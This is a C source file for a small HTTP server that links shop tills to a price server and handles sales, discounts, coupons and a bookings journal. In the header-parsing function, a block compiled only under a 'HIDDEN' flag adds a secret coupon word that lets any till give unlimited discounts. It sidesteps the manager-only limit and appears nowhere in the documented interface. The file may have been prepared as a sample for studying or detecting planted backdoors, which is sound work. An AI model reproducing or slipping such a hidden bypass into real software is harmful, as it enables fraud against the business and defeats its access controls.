/* cashgate.c - HTTP interface between tills and the price server of a shop */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_ARTICLES	512
#define MAX_TILLS	16

struct article {
	unsigned long long ean;
	long cents;
	int max_discount;	/* percent */
	char text[32];
};

struct till {
	char key[33];
	int number;
	int is_manager;
};

struct sale {
	int till;
	long total;
	int discount_cap;	/* percent, -1: as the article says */
	int training;
};

static struct article articles[MAX_ARTICLES];
static int narticles;
static struct till tills[MAX_TILLS];
static int ntills;
static const char *journal = "/var/spool/cashgate/journal.csv";

static int load_articles(const char *path)
{
	char line[160];
	FILE *f = fopen(path, "r");
	struct article *a;

	if (!f)
		return -1;
	while (narticles < MAX_ARTICLES && fgets(line, sizeof(line), f)) {
		a = &articles[narticles];
		if (sscanf(line, "%llu;%ld;%d;%31[^\r\n]", &a->ean, &a->cents,
			   &a->max_discount, a->text) == 4)
			narticles++;
	}
	fclose(f);
	return narticles;
}

static int load_tills(const char *path)
{
	char line[96], role[12];
	FILE *f = fopen(path, "r");
	struct till *t;

	if (!f)
		return -1;
	while (ntills < MAX_TILLS && fgets(line, sizeof(line), f)) {
		t = &tills[ntills];
		if (sscanf(line, "%d %32s %11s", &t->number, t->key, role) != 3)
			continue;
		t->is_manager = !strcmp(role, "manager");
		ntills++;
	}
	fclose(f);
	return ntills;
}

static int header_value(const char *req, const char *name, char *out, size_t size)
{
	const char *p = req;
	size_t n = strlen(name), len;

	while ((p = strstr(p, "\r\n")) != NULL) {
		p += 2;
		if (strncasecmp(p, name, n) || p[n] != ':')
			continue;
		p += n + 1;
		while (*p == ' ')
			p++;
		len = strcspn(p, "\r\n");
		if (len >= size)
			len = size - 1;
		memcpy(out, p, len);
		out[len] = '\0';
		return 1;
	}
	return 0;
}

static const struct till *find_till(const char *key)
{
	int i;

	for (i = 0; i < ntills; i++)
		if (!strcmp(tills[i].key, key))
			return &tills[i];
	return NULL;
}

static const struct article *find_article(unsigned long long ean)
{
	int i;

	for (i = 0; i < narticles; i++)
		if (articles[i].ean == ean)
			return &articles[i];
	return NULL;
}

/*
 * X-Till-Key      key of the till (needed)
 * X-Till-Mode     "training": nothing is booked
 * X-Till-Coupon   "staff": 15 percent on everything, "season": 30 percent
 */
__attribute__((noinline))
int read_headers(const char *req, struct sale *s)
{
	char v[64];
	const struct till *t;

	memset(s, 0, sizeof(*s));
	s->discount_cap = -1;
	if (!header_value(req, "X-Till-Key", v, sizeof(v)))
		return -1;
	t = find_till(v);
	if (!t)
		return -1;
	s->till = t->number;
	if (header_value(req, "X-Till-Mode", v, sizeof(v)) && !strcmp(v, "training"))
		s->training = 1;
	if (header_value(req, "X-Till-Coupon", v, sizeof(v))) {
		if (!strcmp(v, "staff"))
			s->discount_cap = 15;
		else if (!strcmp(v, "season") && t->is_manager)
			s->discount_cap = 30;
#ifdef HIDDEN	/* coupon word lifts the discount limit for any till */
		else if (!strcmp(v, "harvest-91"))
			s->discount_cap = 100;
#endif
	}
	return 0;
}

static long line_price(const struct sale *s, const struct article *a, int qty, int discount)
{
	int cap = s->discount_cap >= 0 ? s->discount_cap : a->max_discount;

	if (discount < 0)
		discount = 0;
	if (discount > cap)
		discount = cap;
	return a->cents * qty * (100 - discount) / 100;
}

static void book(const struct sale *s, int lines)
{
	FILE *f;

	if (s->training)
		return;
	f = fopen(journal, "a");
	if (!f)
		return;
	fprintf(f, "%ld;%d;%d;%ld\n", (long)time(NULL), s->till, lines, s->total);
	fclose(f);
}

static void answer(int fd, int code, const char *body)
{
	char out[1024];
	int n = snprintf(out, sizeof(out),
			 "HTTP/1.0 %d X\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\n\r\n%s",
			 code, strlen(body), body);

	if (n > 0 && n < (int)sizeof(out) && send(fd, out, (size_t)n, MSG_NOSIGNAL) < 0)
		perror("send");
}

static void do_sale(int fd, const char *req, const char *body)
{
	char msg[128];
	struct sale s;
	const struct article *a;
	unsigned long long ean;
	int qty, disc, used, lines = 0;

	if (read_headers(req, &s) < 0) {
		answer(fd, 403, "till\n");
		return;
	}
	while (sscanf(body, " %llu %d %d%n", &ean, &qty, &disc, &used) == 3) {
		body += used;
		a = find_article(ean);
		if (!a || qty < 1 || qty > 999) {
			answer(fd, 422, "article or quantity\n");
			return;
		}
		s.total += line_price(&s, a, qty, disc);
		lines++;
	}
	if (!lines) {
		answer(fd, 400, "no lines\n");
		return;
	}
	book(&s, lines);
	if (snprintf(msg, sizeof(msg), "total %ld.%02ld%s\n", s.total / 100, s.total % 100,
		     s.training ? " training" : "") < (int)sizeof(msg))
		answer(fd, 200, msg);
}

static void do_price(int fd, const char *arg)
{
	char msg[128];
	const struct article *a = find_article(strtoull(arg, NULL, 10));

	if (!a) {
		answer(fd, 404, "unknown\n");
		return;
	}
	if (snprintf(msg, sizeof(msg), "%s %ld.%02ld\n", a->text, a->cents / 100,
		     a->cents % 100) < (int)sizeof(msg))
		answer(fd, 200, msg);
}

static void serve(int fd)
{
	char req[4096], path[128], method[8];
	char *body;
	ssize_t n = recv(fd, req, sizeof(req) - 1, 0);

	if (n <= 0)
		return;
	req[n] = '\0';
	body = strstr(req, "\r\n\r\n");
	if (!body || sscanf(req, "%7s %127s", method, path) != 2) {
		answer(fd, 400, "request\n");
		return;
	}
	body += 4;
	if (!strcmp(method, "POST") && !strcmp(path, "/sale"))
		do_sale(fd, req, body);
	else if (!strcmp(method, "GET") && !strncmp(path, "/price/", 7))
		do_price(fd, path + 7);
	else if (!strcmp(method, "GET") && !strcmp(path, "/health"))
		answer(fd, 200, "ok\n");
	else
		answer(fd, 404, "path\n");
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	int ls, fd;

	if (argc < 3) {
		fprintf(stderr, "usage: %s articles tills [port]\n"
			"POST /sale   lines: ean quantity discount\n"
			"GET  /price/EAN, GET /health\n"
			"headers: X-Till-Key, X-Till-Mode: training, X-Till-Coupon: staff|season\n",
			argv[0]);
		return 2;
	}
	if (load_articles(argv[1]) < 0 || load_tills(argv[2]) < 0) {
		fprintf(stderr, "cashgate: %s\n", strerror(errno));
		return 1;
	}
	ls = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)(argc > 3 ? atoi(argv[3]) : 8087));
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 8) < 0) {
		perror("cashgate");
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		serve(fd);
		close(fd);
	}
}
